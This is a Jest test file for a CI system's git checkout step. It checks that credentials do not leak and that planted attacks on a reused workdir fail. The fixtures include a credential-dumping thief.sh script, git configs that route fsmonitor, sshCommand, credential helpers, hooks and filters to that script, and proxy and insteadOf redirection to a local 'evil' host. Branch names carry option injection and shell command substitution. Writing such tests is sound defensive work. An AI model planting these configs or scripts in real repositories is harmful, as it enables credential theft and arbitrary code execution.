import { execFile, spawn } from 'node:child_process';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { text } from 'node:stream/consumers';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { NO_SOURCE, Result } from '@millrace/domain';
import { requireService } from '@millrace/testing';
import type { BuildOutcome } from '../../dist/runner/runner.js';
import { FakeBuildServices, jobFor } from './fake-build-services.js';
import { Runners } from './git-builder.js';

const root = join(dirname(fileURLToPath(import.meta.url)), '../../../..');
const run = promisify(execFile);
const PASSWORD = 'p@ss:w/rd-hunter2';
const SUCCESS = { kind: 'finished', results: Result.SUCCESS };

let folder: string;
let origin: string;
let server: Server;
let url: string;
const requests: (string | undefined)[] = [];
/** A foreign host that records who connects. */
let evil: Server;
let evilUrl: string;
const evilRequests: { url: string; authorization: string | undefined }[] = [];
let runners: Runners;

async function git(...args: string[]): Promise<string> {
  const { stdout } = await run('git', ['-C', origin, '-c', 'user.name=t', '-c', 'user.email=t@example.org', ...args]);
  return stdout.trim();
}

async function commit(file: string, text: string): Promise<string> {
  await writeFile(join(origin, file), text);
  await git('add', '--all');
  await git('commit', '--quiet', '-m', `change ${file}`);
  return await git('rev-parse', 'HEAD');
}

/** Git LFS of a forge: the addresses of objects, and the objects. */
async function largeFiles(request: IncomingMessage, response: ServerResponse): Promise<void> {
  const body = await text(request);
  const [oid] = /[0-9a-f]{64}$/.exec(request.url!) ?? [];
  if (oid !== undefined) {
    response.end(await readFile(join(origin, '.git/lfs/objects', oid.slice(0, 2), oid.slice(2, 4), oid)));
    return;
  }
  const { objects } = JSON.parse(body) as { objects: { oid: string; size: number }[] };
  const found = objects.map((object) => ({
    ...object,
    actions: { download: { href: `${url}.git/info/lfs/objects/${object.oid}` } },
  }));
  response.setHeader('content-type', 'application/vnd.git-lfs+json');
  response.end(JSON.stringify({ transfer: 'basic', objects: found }));
}

/** Starts `git http-backend` behind Basic authentication, which Git clients see as a forge. */
function startForge(): Promise<Server> {
  const wanted = `Basic ${Buffer.from(`ci:${PASSWORD}`).toString('base64')}`;
  const forge = createServer((request, response) => {
    requests.push(request.headers.authorization);
    if (request.url!.startsWith('/moved-at-once/')) {
      response.writeHead(302, { location: `${evilUrl}${request.url!}` }).end();
      return;
    }
    if (request.headers.authorization !== wanted) {
      response.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end();
      return;
    }
    if (request.url!.startsWith('/moved-when-known/')) {
      response.writeHead(302, { location: `${evilUrl}${request.url!}` }).end();
      return;
    }
    const { pathname, search } = new URL(request.url!, 'http://forge');
    if (pathname.includes('/info/lfs/')) {
      void largeFiles(request, response);
      return;
    }
    const env = {
      ...process.env,
      GIT_PROJECT_ROOT: folder,
      GIT_HTTP_EXPORT_ALL: '1',
      PATH_INFO: pathname,
      QUERY_STRING: search.slice(1),
      REQUEST_METHOD: request.method,
      CONTENT_TYPE: request.headers['content-type'] ?? '',
      GIT_PROTOCOL: String(request.headers['git-protocol'] ?? ''),
      HTTP_CONTENT_ENCODING: String(request.headers['content-encoding'] ?? ''),
      REMOTE_USER: 'ci',
    };
    const backend = spawn('git', ['http-backend'], { env, stdio: ['pipe', 'pipe', 'inherit'] });
    request.pipe(backend.stdin);
    const chunks: Buffer[] = [];
    backend.stdout.on('data', (chunk: Buffer) => chunks.push(chunk));
    backend.on('close', () => {
      const output = Buffer.concat(chunks);
      const split = output.indexOf('\r\n\r\n');
      for (const line of output.subarray(0, split).toString().split('\r\n')) {
        const [name, value] = line.split(/:\s*/, 2);
        if (name === 'Status') response.statusCode = Number.parseInt(value!, 10);
        else response.setHeader(name!, value!);
      }
      response.end(output.subarray(split + 4));
    });
  });
  return new Promise((resolve) => forge.listen(0, '127.0.0.1', () => resolve(forge)));
}

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'millrace-steps-'));
  runners = new Runners(folder);
  origin = join(folder, 'origin');
  await mkdir(origin);
  await git('init', '--quiet');
  await git('symbolic-ref', 'HEAD', 'refs/heads/main');
  server = await startForge();
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/origin`;
  evil = createServer((request, response) => {
    const { authorization } = request.headers;
    evilRequests.push({ url: request.url!, authorization: authorization ?? request.headers['proxy-authorization'] });
    response.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end();
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  evilUrl = `http://localhost:${(evil.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await runners.close();
  for (const one of [server, evil]) await new Promise((resolve) => one.close(resolve));
  await rm(folder, { recursive: true });
});

describe('git', () => {
  const here = () => JSON.stringify(pathToFileURL(origin).href);

  it('checks out the head of a branch, or the exact revision, and records which it got', async () => {
    const first = await commit('a.txt', 'one');
    const second = await commit('a.txt', 'two');
    const { build } = await runners.builderWith(`{ repository: ${here()} }`);
    const head = await build({ branch: 'main' });
    expect(head.outcome).toMatchObject(SUCCESS);
    expect(head.host.properties.got_revision).toEqual([second, 'Git']);
    expect(head.host.steps[0]!.stateString).toBe(`update main ${second.slice(0, 12)}`);
    const exact = await build({ branch: 'main', revision: first });
    expect(exact.host.properties.got_revision![0]).toBe(first);
    expect(await exact.text('a.txt')).toBe('one');
    const byDefault = await build();
    expect(byDefault.host.properties.got_revision![0]).toBe(second);
  });

  it('finds a revision that its branch no longer has', async () => {
    const lost = await commit('a.txt', 'lost');
    await git('reset', '--quiet', '--hard', 'HEAD~1');
    const kept = await commit('a.txt', 'kept');
    const { build } = await runners.builderWith(`{ repository: ${here()} }`);
    expect((await build({ branch: 'main', revision: lost })).host.properties.got_revision![0]).toBe(lost);
    expect((await build({ branch: 'main' })).host.properties.got_revision![0]).toBe(kept);
  });

  it('keeps files of earlier builds when incremental, and none when full', async () => {
    await commit('.gitignore', 'made*\n');
    for (const [mode, left] of [
      ['incremental', ['made.txt', 'stray.txt']],
      ['full', []],
    ] as const) {
      const { build, workdir } = await runners.builderWith(`{ repository: ${here()}, mode: '${mode}' }`);
      await build();
      await writeFile(join(workdir, 'made.txt'), 'x');
      await writeFile(join(workdir, 'stray.txt'), 'x');
      await writeFile(join(workdir, 'a.txt'), 'changed by a build');
      const again = await build();
      expect(again.outcome).toMatchObject(SUCCESS);
      expect((await readdir(workdir)).filter((name) => /made|stray/.test(name))).toEqual(left);
      expect(await again.text('a.txt')).not.toContain('changed');
    }
  });

  it('goes on when a killed git has left the folder locked', async () => {
    const { build, workdir } = await runners.builderWith(`{ repository: ${here()} }`);
    await build();
    await writeFile(join(workdir, '.git/index.lock'), '');
    await writeFile(join(workdir, 'a.txt'), 'dirty');
    const again = await build();
    expect(again.outcome).toMatchObject(SUCCESS);
    expect(again.host.events).not.toContain('command rmdir');
    expect(await again.text('a.txt')).not.toBe('dirty');
  });

  it.each([
    ['a branch that is not there', { branch: 'nowhere' }, Result.FAILURE],
    ['a revision that is not there', { branch: 'main', revision: '0'.repeat(40) }, Result.FAILURE],
    ['a branch that git would take for an option', { branch: '--upload-pack=touch /tmp/x' }, Result.EXCEPTION],
    ['a revision that git would take for an option', { revision: '--orphan' }, Result.EXCEPTION],
  ] as const)('fails for %s', async (_what, stamp, results) => {
    const { build } = await runners.builderWith(`{ repository: ${here()}, clobberOnFailure: false }`);
    expect((await build(stamp)).outcome).toMatchObject({ kind: 'finished', results });
  });

  it('uses credentials that no log, command, environment or remaining file shows', async () => {
    process.env['MILLRACE_TEST_GIT_PASSWORD'] = PASSWORD;
    const { build, workdir } = await runners.builderWith(
      `{ repository: '${url}', credentials: { username: 'ci', passwordEnv: 'MILLRACE_TEST_GIT_PASSWORD' } }`,
    );
    const { host, outcome } = await build({ branch: 'main' });
    expect(outcome).toMatchObject(SUCCESS);
    expect(requests.filter(Boolean).length).toBeGreaterThan(0);
    const download = host.requests.find(({ args }) => String(args.path as string).endsWith('/credentials'))!;
    expect(download.args.mode).toBe(0o600);
    const shown = JSON.stringify(host.requests.map((request) => ({ ...request, download: null }))) + host.allText;
    for (const secret of ['hunter2', encodeURIComponent(PASSWORD), Buffer.from(`ci:${PASSWORD}`).toString('base64')]) {
      expect(shown).not.toContain(secret);
    }
    const { stdout } = await run('grep', ['-rlF', 'hunter2', dirname(workdir)]).catch(
      (error: unknown) => error as { stdout: string },
    );
    expect(stdout).toBe('');
  });

  it('removes them also when the fetch fails, and fails at once without them', async () => {
    const wrong = await runners.builderWith(
      `{ repository: '${url}', credentials: { username: 'ci', password: 'wrong-hunter2' } }`,
    );
    const { host, outcome } = await wrong.build({ branch: 'main' });
    expect(outcome).toMatchObject({ results: Result.FAILURE });
    expect(host.events.slice(-3)).toEqual(['command rmfile', 'command rmdir', 'finish git']);
    expect(await readdir(dirname(wrong.workdir))).toEqual(['build']);
    const without = await runners.builderWith(`{ repository: '${url}' }`);
    expect((await without.build({ branch: 'main' })).outcome).toMatchObject({ results: Result.FAILURE });
  });
});

(requireService('git-lfs') ? describe : describe.skip)('the credentials of git, for files of Git LFS', () => {
  it('fetch files of Git LFS, and no command of the checkout has them', async () => {
    await git('checkout', '--quiet', '-b', 'large');
    await git('lfs', 'install', '--local');
    await git('lfs', 'track', '*.bin');
    const large = 'large '.repeat(10_000);
    const head = await commit('data.bin', large);
    await git('lfs', 'uninstall', '--local');
    await git('checkout', '--quiet', '--force', 'main');
    const filter = 'process = git-lfs filter-process\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f';
    await writeFile(join(folder, 'lfs.config'), `[filter "lfs"]\n\t${filter}\n\trequired = true\n`);
    const { build, workdir } = await runners.builderWith(
      `{ repository: '${url}', credentials: { username: 'ci', password: '${PASSWORD}' }, env: { GIT_CONFIG_GLOBAL: '${join(folder, 'lfs.config')}' } }`,
    );
    for (const _again of [1, 2]) {
      const built = await build({ branch: 'large' });
      expect([built.outcome, built.host.log('git')]).toMatchObject([SUCCESS, expect.anything()]);
      expect([built.host.properties.got_revision![0], await built.text('data.bin')]).toEqual([head, large]);
      expect(built.host.allText).not.toContain('hunter2');
    }
    const { stdout } = await run('grep', ['-rlF', 'hunter2', dirname(workdir)]).catch(
      (error: unknown) => error as { stdout: string },
    );
    expect(stdout).toBe('');
  });
});

describe('the credentials of git, after a build that has left', () => {
  let loot: string;
  let home: string;
  let thief: string;
  const secrets = () => ['hunter2', encodeURIComponent(PASSWORD), Buffer.from(`ci:${PASSWORD}`).toString('base64')];

  beforeAll(async () => {
    loot = join(folder, 'loot');
    thief = join(folder, 'thief.sh');
    await writeFile(
      thief,
      `#!/bin/sh
mkdir -p '${loot}'
for d in '${folder}'/*/.millrace-git/repository/.git; do cat '${folder}/included' >> "$d/config"; done
{ env; cat; echo "$@"; cat '${folder}'/*/.millrace-git/credentials '${folder}'/*/.millrace-git-credentials; } >> '${loot}/'$$ 2>&1 < /dev/null
exit 0
`,
    );
    await chmod(thief, 0o755);
    await commit('.gitattributes', '* filter=thief diff=thief\n');
    await mkdir(join(folder, 'sub'));
    for (const args of [
      ['init', '--quiet'],
      ['symbolic-ref', 'HEAD', 'refs/heads/main'],
      ['-c', 'user.name=t', '-c', 'user.email=t@example.org', 'commit', '--quiet', '--allow-empty', '-m', 'one'],
    ])
      await run('git', ['-C', join(folder, 'sub'), ...args]);
    // git takes an empty folder for a submodule that is not there yet.
    await mkdir(join(origin, 'sub'));
    await commit('.gitmodules', `[submodule "sub"]\n path = sub\n url = ../sub\n`);
    await moveSubmodule();
  });

  async function moveSubmodule(): Promise<void> {
    const sub = ['-C', join(folder, 'sub'), '-c', 'user.name=t', '-c', 'user.email=t@example.org'];
    await run('git', [...sub, 'commit', '--quiet', '--allow-empty', '-m', 'another']);
    const { stdout } = await run('git', [...sub, 'rev-parse', 'HEAD']);
    await git('update-index', '--add', '--cacheinfo', `160000,${stdout.trim()},sub`);
    await git('commit', '--quiet', '-m', 'a submodule');
  }

  const attack = (): string => `
[core]
  hooksPath = ${join(folder, 'hooks')}
  fsmonitor = ${thief}
  sshCommand = ${thief}
  askPass = ${thief}
  gitProxy = ${thief}
  alternateRefsCommand = ${thief}
  pager = ${thief}
  editor = ${thief}
[credential]
  helper = !${thief}
[filter "thief"]
  clean = ${thief}
  smudge = ${thief}
[http]
  extraHeader = X-Was: here
[uploadpack]
  packObjectsHook = ${thief}
[gc]
  recentObjectsHook = ${thief}
`;
  const redirection = (): string => `
[url "${evilUrl}/"]
  insteadOf = ${url.slice(0, -'origin'.length)}
[http]
  proxy = ${evilUrl}
  curloptResolve = 127.0.0.1
`;
  const hooks = async (where: string): Promise<void> => {
    await mkdir(where, { recursive: true });
    for (const name of [
      'post-checkout',
      'reference-transaction',
      'pre-auto-gc',
      'post-merge',
      'post-index-change',
      'fsmonitor-watchman',
    ])
      await writeFile(join(where, name), `#!/bin/sh\nexec ${thief} "$@"\n`, { mode: 0o755 });
  };
  const append = async (file: string, text: string) =>
    writeFile(file, `${await readFile(file, 'utf8').catch(() => '')}\n${text}`);

  it.each<[string, (at: { workdir: string; builddir: string }) => Promise<unknown>]>([
    ['a configuration', ({ workdir }) => append(join(workdir, '.git/config'), attack())],
    ['a configuration that sends git elsewhere', ({ workdir }) => append(join(workdir, '.git/config'), redirection())],
    [
      'a configuration that includes another',
      async ({ workdir }) => {
        await append(join(workdir, '.git/config'), `[include]\n path = ${join(folder, 'included')}\n`);
      },
    ],
    ['a configuration in its home', () => writeFile(join(home, '.gitconfig'), attack() + redirection())],
    [
      'another configuration in its home',
      async () => {
        await mkdir(join(home, '.config/git'), { recursive: true });
        await writeFile(join(home, '.config/git/config'), attack() + redirection());
      },
    ],
    ['hooks', ({ workdir }) => hooks(join(workdir, '.git/hooks'))],
    [
      'a link where the credentials go',
      ({ builddir }) => symlink(join(folder, 'stolen'), join(builddir, '.millrace-git-credentials')),
    ],
    [
      'a link where the folder goes',
      async ({ builddir }) => {
        await mkdir(join(folder, 'stolen'), { recursive: true });
        await symlink(join(folder, 'stolen'), join(builddir, '.millrace-git'));
      },
    ],
    [
      'a folder with a link in it',
      async ({ builddir }) => {
        await mkdir(join(builddir, '.millrace-git/repository/.git'), { recursive: true });
        await writeFile(join(builddir, '.millrace-git/.gitconfig'), attack() + redirection());
        await symlink(join(folder, 'stolen-file'), join(builddir, '.millrace-git/credentials'));
      },
    ],
    [
      'attributes and alternates',
      async ({ workdir }) => {
        await writeFile(join(workdir, '.git/info/attributes'), '* filter=thief\n');
        await append(join(workdir, '.git/config'), attack());
        await writeFile(join(workdir, '.git/objects/info/alternates'), `${join(folder, 'nowhere')}\n`);
      },
    ],
    [
      'a repository elsewhere',
      async ({ workdir }) => {
        await rm(join(workdir, '.git'), { recursive: true });
        await run('git', ['init', '--quiet', '--bare', join(folder, 'elsewhere.git')]);
        await append(join(folder, 'elsewhere.git/config'), attack() + redirection());
        await hooks(join(folder, 'elsewhere.git/hooks'));
        await writeFile(join(workdir, '.git'), `gitdir: ${join(folder, 'elsewhere.git')}\n`);
      },
    ],
    [
      'hooks and a configuration of a submodule',
      async ({ workdir }) => {
        const module = join(workdir, '.git/modules/sub');
        await mkdir(module, { recursive: true });
        await append(join(module, 'config'), attack() + redirection());
        await append(
          join(workdir, '.git/config'),
          `[submodule "sub"]\n url = ${evilUrl}/sub\n update = !${thief}\n active = true\n`,
        );
        await hooks(join(module, 'hooks'));
      },
    ],
  ])('%s, arrive nowhere else', async (_what, plant) => {
    home = await mkdtemp(join(folder, 'home-'));
    await rm(loot, { recursive: true, force: true });
    await hooks(join(folder, 'hooks'));
    await writeFile(join(folder, 'included'), attack() + redirection());
    evilRequests.length = 0;
    const options = `{ repository: '${url}', submodules: true, tags: true, credentials: { username: 'ci', password: '${PASSWORD}' } }`;
    const { build, workdir } = await runners.builderWith(options, { HOME: home });
    await commit('a.txt', `before ${workdir}`);
    expect((await build({ branch: 'main' })).outcome).toMatchObject(SUCCESS);
    await plant({ workdir, builddir: dirname(workdir) });
    await moveSubmodule();
    const head = await commit('a.txt', `after ${workdir}`);
    requests.length = 0;
    const { outcome, host } = await build({ branch: 'main' });
    // A build's own user configuration may keep git from working at all.
    if (!(await readdir(home)).length) {
      expect([outcome, host.logs]).toMatchObject([SUCCESS, expect.anything()]);
      expect(host.properties.got_revision![0]).toBe(head);
    }
    expect(requests.filter(Boolean).length).toBeGreaterThan(0);
    expect(evilRequests.filter(({ authorization }) => authorization !== undefined)).toEqual([]);
    for (const where of [loot, home, join(folder, 'stolen'), join(folder, 'stolen-file'), dirname(workdir)]) {
      const { stdout } = await run('grep', ['-rF', ...secrets().flatMap((secret) => ['-e', secret]), where]).catch(
        (error: unknown) => error as { stdout: string },
      );
      expect([where, stdout]).toEqual([where, '']);
    }
  });

  it.each(['moved-at-once', 'moved-when-known'])(
    'nothing, stay with their host when that redirects: %s',
    async (path) => {
      evilRequests.length = 0;
      const { build } = await runners.builderWith(
        `{ repository: '${url.replace('origin', path)}/origin', credentials: { username: 'ci', password: '${PASSWORD}' } }`,
      );
      expect((await build({ branch: 'main' })).outcome).toMatchObject({ results: Result.FAILURE });
      expect(evilRequests.length).toBeGreaterThan(0);
      expect(evilRequests.filter(({ authorization }) => authorization !== undefined)).toEqual([]);
    },
  );

  it('nothing, are for submodules of their own host, and not for those of another', async () => {
    await git('checkout', '--quiet', '-b', 'modules');
    const options = `{ repository: '${url}', submodules: true, credentials: { username: 'ci', password: '${PASSWORD}' } }`;
    const own = await runners.builderWith(options);
    for (const _again of [1, 2]) {
      requests.length = 0;
      const { outcome, host } = await own.build({ branch: 'modules' });
      expect([outcome, host.logs]).toMatchObject([SUCCESS, expect.anything()]);
      expect(await readdir(join(own.workdir, 'sub'))).toEqual(['.git']);
    }
    // The second time everything was there except the branch's head.
    expect(requests.length).toBeLessThan(6);

    evilRequests.length = 0;
    await commit('.gitmodules', `[submodule "sub"]\n path = sub\n url = ${evilUrl}/sub\n`);
    const foreign = await runners.builderWith(options);
    expect((await foreign.build({ branch: 'modules' })).outcome).toMatchObject({ results: Result.FAILURE });
    expect(evilRequests.length).toBeGreaterThan(0);
    expect(evilRequests.filter(({ authorization }) => authorization !== undefined)).toEqual([]);
    await git('checkout', '--quiet', '--force', 'main');
  });

  it.each(['1', 'true'])('nothing, fetch a shallow history again and again: %s', async (shallow) => {
    const { build, workdir } = await runners.builderWith(
      `{ repository: '${url}', shallow: ${shallow}, credentials: { username: 'ci', password: '${PASSWORD}' } }`,
    );
    for (const text of ['one', 'two', 'three']) {
      const head = await commit('a.txt', `${text} ${workdir}`);
      const { host } = await build({ branch: 'main' });
      expect(host.properties.got_revision![0]).toBe(head);
      const { stdout } = await run('git', ['-C', workdir, 'rev-list', '--count', 'HEAD']);
      expect(stdout.trim()).toBe('1');
    }
  });
});

describe('a value that somebody else has chosen', () => {
  it('is a word of a command, and a name below the folder, whatever it contains', async () => {
    const configFile = join(folder, 'values.config.ts');
    await writeFile(
      configFile,
      `import { builder, defineConfig, interpolate, worker } from '@millrace/config';
import { setProperty, shell } from '@millrace/steps';
const common = { alwaysRun: true, flunkOnFailure: false };
export default defineConfig({
  workers: [worker('w', { password: 'x' })],
  builders: [builder('b', { workers: ['w'], factory: [
    shell({ ...common, name: 'plain', command: 'printf "<%%s>" %(src::branch)s "%(src::branch)s" \\'%(src::branch)s\\''.replace('%%', '%') }),
    shell({ ...common, name: 'template', command: interpolate('printf "<%%s>" %(src::branch)s') }),
    setProperty({ ...common, property: 'got', command: 'printf %s %(src::branch)s' }),
    shell({ ...common, name: 'raw', command: 'printf "<%s>" %(raw:prop:words)s' }),
    shell({ ...common, name: 'path', command: ['pwd'], workdir: 'build/%(prop:up)s' }),
    shell({ ...common, name: 'below', command: ['pwd'], workdir: 'build/%(prop:words)s' }),
  ] })],
});`,
    );
    const { pool, config } = await runners.poolFor(configFile);
    const host = new FakeBuildServices();
    const branch = `x;id'"$(id)\`id\` \\`;
    const sourceStamps = [{ ...NO_SOURCE, branch }];
    const properties = { words: ['a b', 't'], up: ['../../..', 't'] } as const;
    const { outcome } = pool.run(jobFor('b', config, folder, { sourceStamps, properties }), host);
    expect(await outcome).toMatchObject({ kind: 'finished' });
    expect(host.log('plain')).toContain(`<${branch}><${branch}><${branch}>`);
    expect(host.log('template')).toContain(`<${branch}>`);
    expect(host.properties.got![0]).toBe(branch);
    expect(host.log('raw')).toContain('<a><b>');
    expect(host.allText).not.toContain('uid=');
    expect(host.steps.map(({ name, results }) => [name, results])).toEqual([
      ...['plain', 'template', 'set-property', 'raw'].map((name) => [name, Result.SUCCESS]),
      ['path', Result.EXCEPTION],
      ['below', Result.SUCCESS],
    ]);
    expect(host.log('path', 'err.text')).toContain('leads out of where that is');
  });
});

it("a step's code sees what it needs, and none of the masters' secrets", async () => {
  const configFile = join(folder, 'environment.config.ts');
  await writeFile(
    configFile,
    `import { readFileSync } from 'node:fs';
import { builder, customStep, defineConfig, worker } from '@millrace/config';
import { git } from '@millrace/steps';
export default defineConfig({
  workers: [worker('w', { passwordEnv: 'TEST_WORKER_PASSWORD' })],
  builders: [
    builder('b', { workers: ['w'], factory: [customStep('look', (step) => {
      step.properties.set('env', { ...process.env });
      step.properties.set('environ', readFileSync('/proc/self/environ', 'latin1'));
      return 0;
    })] }),
    builder('other', { workers: ['w'], factory: [git({ repository: 'https://h/x', credentials: { passwordEnv: 'MILLRACE_TEST_STEP_TOKEN' } })] }),
  ],
});`,
  );
  const secrets = ['MILLRACE_DB', 'MILLRACE_BUS_TICKET', 'MILLRACE_TRIGGER_TOKEN', 'TEST_WORKER_PASSWORD'];
  const seen = ['MILLRACE_TEST_STEP_TOKEN', 'TEST_OF_THE_USER'];
  const engineScript = `
    import { ConfigHost } from ${JSON.stringify(pathToFileURL(join(root, 'libs/config/dist/index.js')).href)};
    import { RunnerPool } from ${JSON.stringify(pathToFileURL(join(root, 'apps/engine/dist/runner/runner.js')).href)};
    const host = await ConfigHost.start(${JSON.stringify(configFile)});
    const { fingerprint, variables } = host;
    const pool = new RunnerPool({ configFile: ${JSON.stringify(configFile)}, fingerprint, variables, log: console });
    await pool.start();
    const properties = {};
    const answer = async () => undefined;
    const job = ${JSON.stringify(jobFor('b', { configFile, fingerprint: '' }, folder))};
    const buildHost = { startStep: answer, finishStep: answer, setStepState: answer, appendLog: answer, setProperties: async (set) => void Object.assign(properties, set) };
    console.log(JSON.stringify(await pool.run({ ...job, fingerprint }, buildHost).outcome));
    console.log('seen ' + JSON.stringify(properties));
    await pool.close();
    await host.close();`;
  const env = Object.fromEntries([...secrets, ...seen].map((name) => [name, `value-of-${name}`]));
  const script = join(folder, 'engine-of-one-build.mjs');
  await writeFile(script, engineScript);
  const { stdout } = await run(process.execPath, [script], {
    env: { PATH: process.env['PATH'], HOME: process.env['HOME'], ...env },
  });
  const found = JSON.parse(/^seen (.*)$/m.exec(stdout)![1]!) as Record<string, [unknown, string]>;
  expect(Object.keys(found['env']![0] as object)).toEqual(expect.arrayContaining(['PATH', 'HOME', ...seen]));
  for (const name of secrets) expect(JSON.stringify(found)).not.toContain(name);
  for (const name of seen) expect(found['environ']![0]).not.toContain(name);
});

describe('the quickstart', () => {
  it('builds the small project: main succeeds, failing fails', async () => {
    process.env['MILLRACE_WORKER_PASSWORD'] = 'x'; // jest gives a copy of the environment to tests, and none to configurations.
    const wrapper = join(folder, 'quickstart.config.ts');
    await writeFile(
      wrapper,
      `process.env['MILLRACE_DATA'] = ${JSON.stringify(join(folder, 'data'))};
const quickstart: { default: unknown } = await import(${JSON.stringify(join(root, 'examples/quickstart/master.config.ts'))});
export default quickstart.default;`,
    );
    const { pool, config } = await runners.poolFor(wrapper);
    const build = async (branch: string) => {
      const host = new FakeBuildServices();
      const sourceStamps = [{ ...NO_SOURCE, branch, project: 'hello' }];
      const outcome: BuildOutcome = await pool.run(jobFor('hello', config, folder, { sourceStamps }), host).outcome;
      return { host, outcome };
    };
    const green = await build('main');
    expect(green.outcome).toMatchObject(SUCCESS);
    expect(green.host.log('test')).toContain('3 passed, 0 failed');
    expect(green.host.uploads).toEqual([`${join(folder, 'hello/build/dist/hello')} -> hello`]);
    expect(green.host.properties.subject![0]).toBe('Greet the world');
    const red = await build('failing');
    expect(red.outcome).toEqual({
      kind: 'finished',
      results: Result.FAILURE,
      stateString: "failed 'test/run.sh' (failure)",
    });
    expect(red.host.steps.map(({ name }) => name)).toEqual(['git', 'describe', 'build', 'test', 'clean']);
  });
});
